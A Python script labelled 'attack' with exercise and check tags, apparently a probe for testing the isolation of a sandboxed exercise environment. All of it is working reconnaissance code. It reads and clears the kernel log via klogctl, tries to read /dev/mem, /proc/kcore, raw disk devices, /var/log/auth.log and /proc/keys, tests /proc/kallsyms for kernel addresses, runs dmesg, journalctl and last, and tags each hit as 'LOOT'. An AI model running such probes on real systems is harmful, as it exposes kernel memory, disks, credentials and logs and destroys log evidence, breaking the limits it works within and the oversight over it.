# attack: reads the kernel's log and what tells of the whole machine: kmsg, dmesg, kallsyms, kcore, raw disks and memory
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import ctypes
import os
import subprocess

libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(4096)
for action in (2, 3, 4, 10):
    result = libc.klogctl(action, buffer, 4096) if action != 2 else libc.klogctl(9, None, 0)
    print("LOOT: the kernel's log" if result > 0 else os.strerror(ctypes.get_errno()))
for path in ("/dev/kmsg", "/proc/kmsg", "/proc/kcore", "/dev/mem", "/dev/port", "/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/loop0", "/var/log/syslog", "/var/log/auth.log",
             "/sys/kernel/debug", "/sys/kernel/tracing/trace", "/sys/fs/pstore", "/run/log/journal", "/proc/keys", "/proc/sched_debug"):  # fmt: skip
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        found = os.listdir(fd) if os.path.isdir(path) else os.read(fd, 100)
        if found:
            print("LOOT:", path, len(found))
    except OSError as error:
        print(path, error.strerror)
try:
    addresses = {line.split()[0] for line in open("/proc/kallsyms").readlines()[:100]}
    print("LOOT: addresses in the kernel" if any(int(a, 16) for a in addresses) else "kallsyms without addresses")
except OSError as error:
    print(error)
for command in ("dmesg", "journalctl", "last"):
    try:
        print("LOOT:" if subprocess.run([command], capture_output=True, timeout=2).stdout else "nothing from", command)
    except (OSError, subprocess.SubprocessError) as error:
        print(error)
print("TRIED")
